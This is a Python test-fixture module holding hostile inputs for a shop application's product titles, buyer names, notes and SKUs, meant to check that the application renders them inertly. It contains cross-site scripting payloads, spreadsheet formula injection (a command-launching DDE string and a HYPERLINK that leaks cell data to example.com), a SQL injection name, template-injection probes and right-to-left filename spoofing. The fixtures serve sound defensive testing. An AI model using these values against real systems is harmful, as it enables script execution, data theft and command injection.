"""What people really type, and what somebody types who means harm.

An account that is opened with "hostile" sells some of its goods, has some of its buyers and takes some
of its notes under these: code for pages, formulas for spreadsheets, writing that turns a line around,
letters nobody sees, words without an end. All of it must arrive as it was written, and do nothing.
Code that ran would set `clarityWasHere` on the page, or open a dialog.
"""

from __future__ import annotations

_RUN = "window.clarityWasHere=1;alert(1)"

# Of goods: each is the name of a style.
TITLES = (
    f"<script>{_RUN}</script> Tee",
    f'Mug"><img src=x onerror="{_RUN}">',
    "Cap \u202emoc.elpmaxe\u202c 👩🏽‍🚀🧢 \u200bzero\u200dwidth\u2060",
    "Sock" + "Wooooooooool" * 12,
    f"Belt '\"`;--</title></textarea><svg/onload={_RUN}>",
    '=HYPERLINK("https://example.com/?leak="&A1,"Coat")',
    "Jeans {{ 7|add:7 }} {% debug %} ${7*7} %s {0}",
    "עברית العربية 日本語 Ünïcode & <b>bold</b> Hoodie",
)

# Of buyers: given and family name.
NAMES = (
    (f"<img src=x onerror={_RUN}>", "O'Brien"),
    ("=cmd|' /C calc'!A0", "@SUM(1+1)"),
    ("Zoë \u202eeoZ\u202c", "Łukasiewicz-Çelik 🦊"),
    ("Wolfeschlegelsteinhausenbergerdorff" * 2, "X"),
    (f'"><svg onload={_RUN}>', "Robert'); DROP TABLE Students;--"),
    ("\u200bInvisible\u200d", "-2+3"),
)

NOTES = (
    f"Please ring twice <script>{_RUN}</script>",
    f'<a href="javascript:{_RUN}">click</a> & "quotes"',
    "\u202egnp.exe\u202c 🎁🎁🎁 " + "a" * 300,
    "=1+1\n@SUM(A1)\r\n\t-2+3",
)

# Of articles: what an account that means harm calls them, beside the usual ones.
SKUS = ('O\'NEILL-"8"', "=2+3-RED", "<b>SKU</b>&amp;")
